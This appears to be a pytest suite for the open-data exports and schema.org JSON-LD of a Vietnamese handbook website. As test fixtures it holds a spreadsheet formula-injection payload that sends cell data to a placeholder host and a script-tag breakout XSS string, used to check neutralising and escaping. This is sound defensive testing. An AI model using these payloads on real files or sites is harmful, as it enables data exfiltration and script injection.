"""Open data: the files of du-lieu/ in the site and the bundle, their schema, and the JSON-LD of document pages."""

from __future__ import annotations

import csv
import html
import io
import json
import os
import posixpath
import re
import subprocess
import sys
import unicodedata
import zipfile
from pathlib import Path
from typing import Any

import jsonschema
import pytest
from browser import Session, axe_problems
from conftest import REPO, SHIPPED_DAY, Project, build_fixture_site, document, load

from sotay.export import export_data
from sotay.linked_data import legislation_script
from sotay.open_data import (
    CSV_FILES,
    DATA_DIR,
    JSON_FILE,
    LICENCE_FILE,
    MIT_FILE,
    SCHEMA_FILE,
    SEPARATOR,
    csv_bytes,
    csv_row,
    edition_export,
    export_schema,
    open_data_files,
)
from sotay.page_scripts import scripts_for
from sotay.project import load_project
from sotay.site import SiteModel

DATA_FILES = {JSON_FILE, SCHEMA_FILE, LICENCE_FILE, MIT_FILE, *CSV_FILES.values()}
LD_JSON = re.compile(r'<script type="application/ld\+json">(.*?)</script>', re.S)
# The honest reading of the base's statuses: a status the sources leave open has no legal-force value.
LEGAL_FORCE = {"con-hieu-luc": "https://schema.org/InForce", "het-hieu-luc": "https://schema.org/NotInForce",
               "bi-thay-the": "https://schema.org/NotInForce", "da-co-van-ban-moi": None, "chua-ro": None}
RELATION_PROPERTY = {"replaces": "legislationRepeals", "amends": "legislationChanges", "cites": "citation",
                     "implements": "legislationEnsuresImplementationOf", "continues": "isBasedOn",
                     "guides": "legislationEnsuresImplementationOf"}


def export_of(site: Path) -> dict[str, Any]:
    data: dict[str, Any] = json.loads((site / JSON_FILE).read_text("utf-8"))
    return data


def test_site_has_every_file_and_a_page_that_links_them(shipped_site: Path) -> None:
    assert {p.relative_to(shipped_site).as_posix() for p in (shipped_site / DATA_DIR).iterdir()} == DATA_FILES
    page = (shipped_site / "du-lieu-mo.html").read_text("utf-8")
    links = set(re.findall(r'href="((?:du-lieu|van-ban)/[^"#]+)"', page))
    assert DATA_FILES | {"van-ban/thay-doi.xml"} <= links  # relative: they open from file:// as they are
    assert all((shipped_site / link).is_file() for link in links)
    text = re.sub(r"<[^>]+>", "", page)
    assert "Ấn bản: Toàn quốc · Phiên bản 0.1.0 · Cập nhật với các văn bản đã biết đến ngày" in text
    assert "https://creativecommons.org/licenses/by/4.0/" in page and "CC BY 4.0" in text
    size = (shipped_site / JSON_FILE).stat().st_size
    assert f"{size / 1000:.1f} kB".replace(".", ",") in text  # the size the reader downloads
    documents = len(export_of(shipped_site)["documents"])
    assert f"{documents} văn bản" in text
    home = (shipped_site / "index.html").read_text("utf-8")
    assert 'href="du-lieu-mo.html"' in home  # in the nav


def test_data_page_reads_well_on_a_phone(shipped_site: Path, browser: Session) -> None:
    page = browser.page(360, 740)
    page.goto((shipped_site / "du-lieu-mo.html").as_uri())
    assert axe_problems(page) == []
    assert page.evaluate("document.documentElement.scrollWidth") <= 360  # the table scrolls in its own box
    page.get_by_role("link", name="so-tay.json").click()
    assert page.url.endswith("/du-lieu/so-tay.json")  # the link opens the file itself, from file://
    assert browser.outside_requests() == []


def test_json_is_what_sotay_export_writes(shipped_site: Path) -> None:
    proc = subprocess.run([sys.executable, "-m", "sotay.cli", "export", "-f", str(shipped_site.parent / "mkdocs.yml")],
                          capture_output=True, text=True, timeout=120, check=True)
    assert (shipped_site / JSON_FILE).read_text("utf-8") == proc.stdout
    assert len(json.loads(proc.stdout)["documents"]) >= 29


def test_the_atom_feed_is_what_sotay_export_writes(shipped_site: Path) -> None:
    proc = subprocess.run([sys.executable, "-m", "sotay.cli", "export", "--format", "atom", "-f",
                           str(shipped_site.parent / "mkdocs.yml")], capture_output=True, text=True, timeout=120,
                          check=True, env={**os.environ, "SOURCE_DATE_EPOCH": SHIPPED_DAY})
    assert (shipped_site / "van-ban" / "thay-doi.xml").read_text("utf-8") == proc.stdout
    assert proc.stdout.count("<entry>") >= 1


def test_csv_files_hold_one_row_a_record_in_vietnamese(shipped_site: Path) -> None:
    data = export_of(shipped_site)
    for kind, path in CSV_FILES.items():
        raw = (shipped_site / path).read_bytes()
        assert raw.startswith(b"\xef\xbb\xbf"), path  # the BOM Excel needs to read UTF-8
        text = raw.decode("utf-8-sig")
        assert unicodedata.is_normalized("NFC", text), path
        rows = list(csv.DictReader(io.StringIO(text, newline="")))
        records = data[kind]
        assert len(rows) == len(records) > 0, path
        assert [r["id"] for r in rows] == [r["id"] for r in records]
        assert [r["title"] for r in rows] == [r["title"] for r in records]
        # Each row is made from the record as made; from the record read back from the JSON it is the same.
        assert raw == csv_bytes(kind, [csv_row(kind, record) for record in records]), path
    documents = list(csv.DictReader(io.StringIO((shipped_site / CSV_FILES["documents"]).read_text("utf-8-sig"))))
    by_id = {r["id"]: r for r in data["documents"]}
    for row in documents:
        record = by_id[row["id"]]
        assert row["themes"] == SEPARATOR.join(record["themes"])
        assert row["issued"] == (record["issued"] or "") and row["number"] == (record["number"] or "")
        assert row["relations"].count(SEPARATOR) == max(len(record["relations"]) - 1, 0)
    assert any("Đảng" in row["issuer"] for row in documents)


def test_export_validates_against_its_schema(shipped_site: Path) -> None:
    schema = json.loads((shipped_site / SCHEMA_FILE).read_text("utf-8"))
    assert schema == export_schema()
    jsonschema.Draft202012Validator.check_schema(schema)
    data = export_of(shipped_site)
    jsonschema.validate(data, schema, cls=jsonschema.Draft202012Validator)
    # The schema is strict: a field it does not know, or a status outside the vocabulary, is refused.
    document = data["documents"][0]
    for broken in ({**document, "extra": 1}, {**document, "status": "dang-xet"}, {**document, "issued": "22/9/2017"}):
        with pytest.raises(jsonschema.ValidationError):
            jsonschema.validate({**data, "documents": [broken]}, schema, cls=jsonschema.Draft202012Validator)


FORMULA = '=HYPERLINK("http://x.example/?d="&A2,"Xem")'
TOPIC = {"id": "chu-de-a", "title": "Chủ đề", "summary": "Tóm tắt.", "meeting": "chuyen-de", "cell_types": ["thon"],
         "themes": [], "months": [3], "basis": [{"target": "chi-thi-10-ct-tw", "anchor": None}], "sources": [],
         "unverified": [], "url": "chu-de/a.html"}


def csv_rows(kind: str, records: list[dict[str, Any]]) -> list[dict[str, str]]:
    text = csv_bytes(kind, [csv_row(kind, r) for r in records]).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_csv_cells_a_spreadsheet_would_run_as_formulas_get_an_apostrophe() -> None:
    templates = [{"id": "a", "title": FORMULA, "docx": "@SUM(1+1)", "url": "mau/a.html"}]
    assert csv_rows("templates", templates) == [{"id": "a", "title": "'" + FORMULA, "docx": "'@SUM(1+1)",
                                                 "url": "mau/a.html"}]
    (topic,) = csv_rows("topics", [{**TOPIC, "title": FORMULA, "cell_types": ["-x", "thon"]}])
    assert topic["title"] == "'" + FORMULA and topic["cell_types"] == "'-x; thon"  # the cell's start is what counts
    for start in ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"):
        (row,) = csv_rows("templates", [{"id": "a", "title": f"{start}1+1", "docx": "a.docx", "url": "a.html"}])
        assert row["title"] == f"'{start}1+1", repr(start)
    (row,) = csv_rows("topics", [{**TOPIC, "summary": "Tháng 3 = tháng chuyên đề", "months": [3, 12]}])
    assert row["summary"] == "Tháng 3 = tháng chuyên đề" and row["months"] == "3; 12" and row["title"] == "Chủ đề"


def test_a_cell_with_a_comma_a_quote_and_a_newline_round_trips() -> None:
    title = 'Họp "chi bộ", tháng 3\r\nlần 2,\n"kết luận"'
    (row,) = csv_rows("templates", [{"id": "a", "title": title, "docx": "a, b.docx", "url": "a.html"}])
    assert row == {"id": "a", "title": title, "docx": "a, b.docx", "url": "a.html"}


def test_only_the_csv_is_neutralised_the_json_keeps_the_text(project: Project) -> None:
    root = project({"directives/a.md": document().replace("Về việc thử nghiệm", json.dumps(FORMULA))})
    result = load(root)
    assert not result.problems.sorted()
    files = open_data_files(SiteModel(result, load_project(root / "mkdocs.yml")), result)
    assert json.loads(files[JSON_FILE])["documents"][0]["title"] == FORMULA
    (row,) = csv.DictReader(io.StringIO(files[CSV_FILES["documents"]].decode("utf-8-sig"), newline=""))
    assert row["title"] == "'" + FORMULA


def test_the_json_put_together_from_records_is_the_export_byte_for_byte(project: Project) -> None:
    """so-tay.json and `sotay export` are put together from each record's text (so that a rebuild while serving
    makes only the changed ones again): it is what json.dumps of the whole export gives, with lists empty and
    full, escapes and all."""
    root = project({"directives/a.md": document().replace("Về việc thử nghiệm", json.dumps('Về "a"\\b\n\tc <d>'))})
    result = load(root)
    assert not result.problems.sorted() and not result.courses and not result.templates
    site = SiteModel(result, load_project(root / "mkdocs.yml"))
    files = open_data_files(site, result)
    whole = json.dumps(export_data(site.kb, site.project, result), ensure_ascii=False, indent=2) + "\n"
    assert files[JSON_FILE].decode("utf-8") == edition_export(site, result) == whole
    assert json.loads(files[JSON_FILE])["documents"][0]["title"] == 'Về "a"\\b\n\tc <d>'


def licence_scopes_of_the_file(note: str) -> list[str]:
    """'1. Phần do Sổ tay biên soạn: a; b; c.' for each numbered part of GIAY-PHEP.txt, its lines joined."""
    parts = [" ".join(part.split("\r\n")) for part in note.split("\r\n\r\n") if re.match(r"\d+\. ", part)]
    return [part.split(". ", 1)[1].split(". ", 1)[0] + "." for part in parts]


def licence_scopes_of_the_page(page: str) -> list[str]:
    section = page[page.index('id="giay-phep"'):]
    items = re.findall(r"<li>(.*?)</li>", section[section.index("<ol>"): section.index("</ol>")], re.S)
    return [html.unescape(re.sub(r"<[^>]+>", "", item)).split(". ", 1)[0] + "." for item in items]


def test_licence_files(shipped_site: Path) -> None:
    assert (shipped_site / MIT_FILE).read_bytes() == (REPO / "LICENSE").read_bytes()
    note = (shipped_site / LICENCE_FILE).read_bytes().decode("utf-8")
    assert "\n" not in note.replace("\r\n", "") and all(len(line) <= 110 for line in note.split("\r\n"))  # Notepad
    scopes = licence_scopes_of_the_file(note)
    assert scopes == licence_scopes_of_the_page((shipped_site / "du-lieu-mo.html").read_text("utf-8"))
    assert len(scopes) == 6
    own, documents, articles, layout, code, others = scopes
    # The handbook's own assessment of a document's status is its own work; the document's words are not.
    assert own.startswith("Phần do Sổ tay biên soạn:") and "tình trạng hiệu lực" in own and "bảng kiểm" in own
    assert documents.startswith("Văn bản của Đảng, Nhà nước:") and "trích yếu" in documents
    assert "tình trạng" not in documents and "tên bài" in articles and "khổ giấy" in layout
    assert "assets/sotay/" in code and "Material for MkDocs" in others
    assert "https://creativecommons.org/licenses/by/4.0/" in note and "36-HD/VPTW" in note


def jsonld(page: str) -> dict[str, Any]:
    found = LD_JSON.findall(page)
    assert len(found) == 1
    data: dict[str, Any] = json.loads(found[0])
    return data


def expected_relations(record: dict[str, Any]) -> set[tuple[str, str]]:
    if "relations" in record["unverified"]:
        return set()
    return {(RELATION_PROPERTY[r["type"]], r["target"]) for r in record["relations"] if not r["unverified"]}


def test_document_pages_carry_the_export_as_schema_org_legislation(shipped_site: Path) -> None:
    seen = {"force": 0, "relations": 0}
    for record in export_of(shipped_site)["documents"]:
        page = (shipped_site / record["url"]).read_text("utf-8")
        data = jsonld(page)
        unverified = set(record["unverified"])
        assert data["@type"] == "Legislation" and data["inLanguage"] == "vi" and data["identifier"] == record["id"]
        assert data.get("legislationIdentifier") == (None if "number" in unverified else record["number"])
        assert data.get("legislationDate") == (None if "issued" in unverified else record["issued"])
        issuer = None if "issuer" in unverified else {"@type": "Organization", "name": record["issuer"]}
        assert data.get("legislationPassedBy") == issuer
        assert data.get("legislationLegalForce") == (None if "status" in unverified else LEGAL_FORCE[record["status"]])
        relations = {(prop, target["identifier"]) for prop in set(RELATION_PROPERTY.values())
                     for target in data.get(prop, [])}
        assert relations == expected_relations(record), record["id"]
        assert "url" not in data  # no site_url: no address is made up
        # Data, not a script: the page loads what it loaded without it.
        assert scripts_for(page) == scripts_for(LD_JSON.sub("", page))
        seen["force"] += "legislationLegalForce" in data
        seen["relations"] += bool(relations)
    assert seen["force"] >= 5 and seen["relations"] >= 5  # the comparison ran on real values


HOSTILE = "</script><script>alert(1)</script> <!--<script>"


def test_a_hostile_title_stays_inside_the_json_ld(project: Project) -> None:
    root = project({"directives/a.md": document().replace("Về việc thử nghiệm", json.dumps(HOSTILE))})
    result = load(root)
    assert not result.problems.sorted()
    site = SiteModel(result, load_project(root / "mkdocs.yml"))
    element = legislation_script(site.documents[0], site)
    assert element.count("<") == 2 and element.endswith("</script>")  # its own start and end tags only
    inner = element[element.index(">") + 1: -len("</script>")]
    assert HOSTILE in json.loads(inner)["name"]


def test_json_ld_in_a_built_page_with_site_url(tmp_path: Path) -> None:
    files = {"directives/a.md": document(extra="status_date: 2020-01-01\n").replace("status: chua-ro",
                                                                                     "status: bi-thay-the"),
             "directives/b.md": document("b", "18-KL/TW", doc_type="ket-luan", issued="2017-09",
                                         extra="relations:\n  - type: replaces\n    target: 10-CT/TW\n")
             .replace("Về việc thử nghiệm", json.dumps(HOSTILE))}
    site = build_fixture_site(tmp_path, files, "site_url: https://example.org/so-tay/\n")
    page = (site / "van-ban/b/index.html").read_text("utf-8")
    article = page[page.index("<article"): page.index("</article>")]
    assert "<script>alert(1)" not in article and article.count("<script") == 1  # the JSON-LD, and nothing else
    data = jsonld(page)
    assert data["url"] == data["@id"] == "https://example.org/so-tay/van-ban/b/"
    assert data["legislationDate"] == "2017-09"  # a partial date as the source gives it
    target = {"@type": "Legislation", "identifier": "chi-thi-10-ct-tw", "legislationIdentifier": "10-CT/TW",
              "name": "Chỉ thị 10-CT/TW về việc thử nghiệm", "url": "https://example.org/so-tay/van-ban/chi-thi-10-ct-tw/",
              "@id": "https://example.org/so-tay/van-ban/chi-thi-10-ct-tw/"}
    assert data["legislationRepeals"] == [target]
    old = jsonld((site / "van-ban/chi-thi-10-ct-tw/index.html").read_text("utf-8"))
    assert old["legislationLegalForce"] == "https://schema.org/NotInForce"
    exported = json.loads((site / JSON_FILE).read_text("utf-8"))
    assert exported["documents"][1]["url"] == "https://example.org/so-tay/van-ban/chi-thi-10-ct-tw/"


def test_an_edition_bundle_carries_its_own_open_data(tmp_path: Path) -> None:
    target = tmp_path / "quang-tri.zip"
    proc = subprocess.run([sys.executable, "-m", "sotay.cli", "bundle", "-o", str(target), "--edition", "quang-tri",
                           "--quiet"], cwd=REPO, capture_output=True, text=True, timeout=300,
                          env={**os.environ, "SOURCE_DATE_EPOCH": SHIPPED_DAY})
    assert proc.returncode == 0, proc.stderr
    with zipfile.ZipFile(target) as archive:
        names = set(archive.namelist())
        data = json.loads(archive.read(JSON_FILE))
        page = archive.read("du-lieu-mo.html").decode("utf-8")
        manifest = json.loads(archive.read("manifest.json"))["files"]
    assert DATA_FILES | {"du-lieu-mo.html"} <= names and set(manifest) >= DATA_FILES
    documents = data["documents"]
    assert {d["province_now"] for d in documents} == {None, "quang-tri"}  # the centre and Quảng Trị only
    assert all(d["url"] in names for d in documents)  # every record points at a page of this bundle
    assert "ấn bản Quảng Trị" in page
    assert all(posixpath.normpath(link) in names for link in re.findall(r'href="(du-lieu/[^"]+)"', page))
